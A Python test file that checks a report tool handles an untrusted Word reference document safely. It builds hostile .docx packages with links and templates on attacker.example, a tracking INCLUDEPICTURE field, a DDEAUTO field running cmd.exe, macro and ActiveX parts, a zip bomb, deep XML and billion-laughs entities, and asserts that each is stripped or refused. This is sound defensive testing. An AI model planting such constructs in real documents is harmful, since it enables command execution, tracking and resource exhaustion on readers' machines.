"""A reference document (``--reference-doc``) is untrusted input (issue 24, items 4 to 6; issue 25, item 8).

It gives the appendix styles, page set-up, headers and footers, nothing else: a remote attached
template, external links, macros, custom XML, ActiveX and embedded objects are left behind, and
a Word template or macro-enabled file makes a plain .docx. Damaged, it is bad input: every part
of a real reference document is damaged in turn (emptied, truncated, given the wrong root,
removed, replaced by garbage, its bytes flipped with a fixed seed), and the package as a whole
(not a zip, an encrypted part, a damaged compressed stream, a zip bomb, deep XML, an entity
declaration). Each run must be exit 0 with a clean document, or exit 2 with one message
naming the file; never exit 70, a traceback, or a Python object's repr; within seconds.
"""

from __future__ import annotations

import io
import random
import re
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from conftest import REPO, run_appraise

SMALL = REPO / "tests" / "data" / "report-small"
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REPR = re.compile(r"<[\w.]+ object at 0x")
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), (128, 0, 0)).save(buffer, "PNG")
    return buffer.getvalue()


def council_reference() -> bytes:
    """A council's reference document: Arial 12 pt, a header with its name and its logo, a body."""
    from docx.shared import Cm, Pt

    document = docx.Document()
    document.styles["Normal"].font.name = "Arial"
    document.styles["Normal"].font.size = Pt(12)
    header = document.sections[0].header.paragraphs[0]
    header.text = "Somewhere Council "
    header.add_run().add_picture(io.BytesIO(png()), width=Cm(2))
    document.sections[0].footer.paragraphs[0].text = "OFFICIAL"
    document.add_paragraph("Template text that must not reach the report")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


def report_with(tmp_path: Path, reference: bytes, name: str = "council.docx") -> tuple[object, Path, Path]:
    path = tmp_path / name
    path.write_bytes(reference)
    out = tmp_path / "appendix.docx"
    out.unlink(missing_ok=True)
    run = run_appraise("report", SMALL, "-o", out, "--reference-doc", path, timeout=60)
    return run, path, out


def assert_clean(out: Path) -> dict[str, bytes]:
    """The appendix is a plain Word document with no external relationship and no macro part."""
    parts = members(out.read_bytes())
    types = parts["[Content_Types].xml"].decode()
    assert f'PartName="/word/document.xml" ContentType="{DOCUMENT_MAIN}"' in types
    assert "macroEnabled" not in types and "template.main" not in types
    for name, data in parts.items():
        assert not re.search(r"vba|customization|activeX|customXml|embeddings|afchunk", name, re.I), name
        if name.endswith(".rels"):
            assert b"External" not in data, (name, data)
    return parts


def assert_bad_input(run: object, path: Path, out: Path) -> None:
    err = run.err  # type: ignore[attr-defined]
    assert run.code == 2, (run.code, err[-2000:])  # type: ignore[attr-defined]
    assert err.startswith(f"{path}:1:1: error: --reference-doc: "), err[-2000:]
    assert err.count("\n") == 1 and "Traceback" not in err and not REPR.search(err), err
    assert not out.exists()


# --- what a reference document gives, and what it does not ---------------------------------

EVIL = "http://attacker.example"


def hostile(main_type: str) -> bytes:
    """The council's document with everything a reference document must not pass on."""
    parts = members(council_reference())
    rels = parts["word/_rels/document.xml.rels"].decode()
    extra = "".join(
        f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'
        for rid, kind, target, mode in [
            ("rIdX1", "hyperlink", f"{EVIL}/doc", ' TargetMode="External"'),
            ("rIdX2", "image", f"{EVIL}/pixel.png", ' TargetMode="External"'),
            ("rIdX3", "aFChunk", "afchunk.htm", ""),
            ("rIdX4", "subDocument", f"{EVIL}/sub.docx", ' TargetMode="External"'),
            ("rIdX5", "oleObject", f"{EVIL}/ole.bin", ' TargetMode="External"'),
            ("rIdX6", "control", "activeX/activeX1.xml", ""),
        ]) + ('<Relationship Id="rIdX7" Type="http://schemas.microsoft.com/office/2006/relationships/'
              'vbaProject" Target="vbaProject.bin"/>'
              '<Relationship Id="rIdX8" Type="http://schemas.microsoft.com/office/2006/relationships/'
              'keyMapCustomizations" Target="customizations.xml"/>')
    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", extra + "</Relationships>").encode()
    parts["word/afchunk.htm"] = b"<html><body>smuggled text</body></html>"
    parts["word/activeX/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    parts["word/vbaData.xml"] = b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    parts["word/_rels/vbaProject.bin.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
        b'Target="vbaData.xml"/></Relationships>')
    parts["word/customizations.xml"] = b'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate r:id="rIdT" xmlns:r="{R}"/><w:mailMerge><w:mainDocumentType '
        f'w:val="formLetters"/><w:dataSource r:id="rIdM" xmlns:r="{R}"/></w:mailMerge><w:zoom'.encode(), 1)
    parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdM" Type="{R}/mailMergeSource" Target="{EVIL}/data.xlsx" TargetMode="External"/>'
        '</Relationships>').encode()
    header_rels = next(n for n in parts if n.startswith("word/_rels/header"))
    header = header_rels.replace("_rels/", "").removesuffix(".rels")
    parts[header_rels] = parts[header_rels].replace(b"</Relationships>", (
        f'<Relationship Id="rIdH" Type="{R}/hyperlink" Target="{EVIL}/home" TargetMode="External"/>'
        "</Relationships>").encode())
    parts[header] = parts[header].replace(b"<w:r>", (
        f'<w:hyperlink r:id="rIdH" xmlns:r="{R}"><w:r><w:t>Council website</w:t></w:r></w:hyperlink><w:r>').encode(), 1)
    fields = (  # a picture fetched from the web, a program run, and a page number that stays
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f'INCLUDEPICTURE "{EVIL}/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
        '</w:r><w:r><w:t>last shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"\'><w:r><w:t> run</w:t>'
        '</w:r></w:fldSimple><w:r><w:t xml:space="preserve"> page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/>'
        '</w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    parts[header] = parts[header].replace(b"</w:hdr>", fields.encode() + b"</w:hdr>")
    types = parts["[Content_Types].xml"].decode().replace(DOCUMENT_MAIN, main_type)
    parts["[Content_Types].xml"] = types.replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="htm" ContentType="application/xhtml+xml"/></Types>').encode()
    return zipped(parts)


MAIN_TYPES = {
    "docx": DOCUMENT_MAIN,
    "dotx": "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
}


@pytest.mark.parametrize("ending", sorted(MAIN_TYPES))
def test_a_reference_document_gives_styles_only(tmp_path: Path, ending: str) -> None:
    """Word templates and macro-enabled files are accepted (issue 25: a .dotx was refused with a
    Python object in the message); what is not styles, headers and footers is left behind."""
    run, _, out = report_with(tmp_path, hostile(MAIN_TYPES[ending]), f"council.{ending}")
    assert run.code == 0, run.err  # type: ignore[attr-defined]
    parts = assert_clean(out)
    everything = b"".join(parts.values())
    assert EVIL.encode() not in everything and b"smuggled" not in everything
    assert b"attachedTemplate" not in parts["word/settings.xml"] and b"mailMerge" not in parts["word/settings.xml"]
    document = docx.Document(str(out))
    assert document.styles["Normal"].font.name == "Arial"
    header = document.sections[0].header
    assert header.paragraphs[0].text.startswith("Council websiteSomewhere Council")  # the link's text kept
    assert [n for n in parts if n.startswith("word/media/")], "the header's logo was dropped"
    assert document.sections[0].footer.paragraphs[0].text == "OFFICIAL"
    assert header.paragraphs[1].text == "last shown run page 1"  # what the fields showed, as text
    header_xml = b"".join(data for name, data in parts.items() if name.startswith("word/header"))
    assert b"INCLUDEPICTURE" not in header_xml and b"DDEAUTO" not in header_xml and b" PAGE " in header_xml
    assert not any("Template text" in p.text for p in document.paragraphs)


def test_the_reference_document_s_properties_are_not_the_appendix_s(tmp_path: Path) -> None:
    parts = members(council_reference())
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", b"<Company>Template Author Ltd</Company></Properties>")
    run, _, out = report_with(tmp_path, zipped(parts))
    assert run.code == 0, run.err  # type: ignore[attr-defined]
    assert b"Template Author Ltd" not in b"".join(assert_clean(out).values())


# --- damaged: every part, every way ---------------------------------------------------------

SEED = 2024


def damages(data: bytes) -> dict[str, Callable[[bytes], bytes | None]]:
    """Ways to damage one part; None removes it."""
    rng = random.Random(SEED + len(data))

    def flipped(part: bytes) -> bytes:
        out = bytearray(part)
        for _ in range(8):
            if out:
                out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
        return bytes(out)

    return {
        "empty": lambda part: b"",
        "truncated": lambda part: part[: len(part) // 2],
        "wrong root": lambda part: b'<?xml version="1.0"?><wrong xmlns="urn:x"><w:p xmlns:w="urn:y"/></wrong>',
        "removed": lambda part: None,
        "garbage": lambda part: rng.randbytes(300),
        "flipped": flipped,
    }


REFERENCE = council_reference()
CASES = [(name, how) for name in sorted(members(REFERENCE)) for how in damages(b"")]


@pytest.mark.parametrize(("part", "how"), CASES, ids=[f"{p}-{h}" for p, h in CASES])
def test_every_part_of_a_reference_document_damaged_every_way(tmp_path: Path, part: str, how: str) -> None:
    parts = members(REFERENCE)
    damaged = damages(parts[part])[how](parts[part])
    if damaged is None:
        del parts[part]
    else:
        parts[part] = damaged
    started = time.monotonic()
    run, path, out = report_with(tmp_path, zipped(parts))
    assert time.monotonic() - started < 20
    if run.code == 0:  # type: ignore[attr-defined]
        assert_clean(out)
    else:
        assert_bad_input(run, path, out)


def test_every_part_of_a_real_reference_document_is_covered() -> None:
    """The cases follow the document: a part python-docx starts to write is damaged too."""
    assert {"word/document.xml", "word/styles.xml", "word/settings.xml", "[Content_Types].xml",
            "_rels/.rels", "word/_rels/document.xml.rels"} <= {p for p, _ in CASES}
    assert any(p.startswith("word/media/") for p, _ in CASES)
    assert any(p.startswith("word/header") for p, _ in CASES)


def raw_damage(data: bytes, name: str, change: Callable[[bytearray, int, int], None]) -> bytes:
    """``data`` (a zip) with ``change`` applied to its bytes at the local header of ``name``."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        info = package.getinfo(name)
    out = bytearray(data)
    name_length, extra_length = struct.unpack("<HH", out[info.header_offset + 26: info.header_offset + 30])
    change(out, info.header_offset, info.header_offset + 30 + name_length + extra_length)
    return bytes(out)


def encrypted(data: bytes) -> bytes:
    """The styles part marked as encrypted with a password, in its local header and the directory."""
    def change(out: bytearray, header: int, start: int) -> None:
        out[header + 6] |= 1
        central = out.find(b"PK\x01\x02")
        while central != -1:
            (offset,) = struct.unpack("<I", out[central + 42: central + 46])
            if offset == header:
                out[central + 8] |= 1
            central = out.find(b"PK\x01\x02", central + 4)

    return raw_damage(data, "word/styles.xml", change)


def damaged_stream(data: bytes) -> bytes:
    def change(out: bytearray, header: int, start: int) -> None:
        for i in range(start + 10, start + 60):
            out[i] ^= 0x5A

    return raw_damage(data, "word/styles.xml", change)


def bomb(size: int) -> bytes:
    """The council's document with a part of ``size`` zero bytes (packed about a thousand to one)."""
    buffer = io.BytesIO(zipped(members(REFERENCE)))
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package, \
            package.open("word/media/image9.png", "w") as part:
        for _ in range(size >> 20):
            part.write(chunk)
    return buffer.getvalue()


def deep(levels: int) -> bytes:
    parts = members(REFERENCE)
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>", b"<w:x>" * levels + b"</w:x>" * levels + b"</w:styles>")
    return zipped(parts)


def laughs() -> bytes:
    parts = members(REFERENCE)
    entities = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'
                                            for i in range(9))
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"<w:styles", f"<!DOCTYPE w:styles [{entities}]><w:styles".encode(), 1).replace(
        b"</w:styles>", b"<w:x>&j;</w:x></w:styles>")
    return zipped(parts)


WHOLE = {
    "not a zip": (lambda: b"PK\x03\x04 not really", "it is not a Word document (.docx)"),
    "a text file": (lambda: b"Dear councillor,\n", "it is not a Word document (.docx)"),
    "truncated zip": (lambda: REFERENCE[: len(REFERENCE) // 2], "it is not a Word document (.docx)"),
    "encrypted part": (lambda: encrypted(REFERENCE), "its part word/styles.xml is encrypted"),
    "damaged stream": (lambda: damaged_stream(REFERENCE), "its part word/styles.xml is damaged"),
    "zip bomb": (lambda: bomb(200 << 20), "its part word/media/image9.png unpacks to 209,715,200 bytes"),
    "packed too tightly": (lambda: bomb(8 << 20), "more than 500 times its size (a zip bomb)"),
    "nested 100,000 deep": (lambda: deep(100_000), "its part word/styles.xml is nested more than 200"),
    "billion laughs": (laughs, "its part word/styles.xml declares a document type (DOCTYPE)"),
    "many parts": (lambda: zipped({**members(REFERENCE), **{f"x/{i}.xml": b"<x/>" for i in range(2001)}}),
                   "parts; at most 2,000 are read"),
}


@pytest.mark.parametrize("case", sorted(WHOLE))
def test_a_damaged_or_hostile_package_is_refused_in_words(tmp_path: Path, case: str) -> None:
    make, words = WHOLE[case]
    started = time.monotonic()
    run, path, out = report_with(tmp_path, make())
    assert time.monotonic() - started < 20
    assert_bad_input(run, path, out)
    assert words in run.err  # type: ignore[attr-defined]


def test_a_zip_bomb_is_refused_within_a_small_memory(tmp_path: Path) -> None:
    """1.5 GB unpacked from a 1.5 MB file ran out of memory; now it is refused under a 400 MB
    address-space limit, through the console script."""
    import resource
    import subprocess

    from conftest import appraise_command

    path = tmp_path / "council.docx"
    path.write_bytes(bomb(1536 << 20))
    assert path.stat().st_size < 2_000_000
    out = tmp_path / "appendix.docx"
    limit = 400 * 1024 * 1024
    proc = subprocess.run(
        [*appraise_command(), "report", str(SMALL), "-o", str(out), "--reference-doc", str(path)],
        capture_output=True, text=True, check=False, timeout=120,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)),
    )
    assert proc.returncode == 2, proc.stderr
    assert "its part word/media/image9.png unpacks to 1,610,612,736 bytes" in proc.stderr
    assert not out.exists()
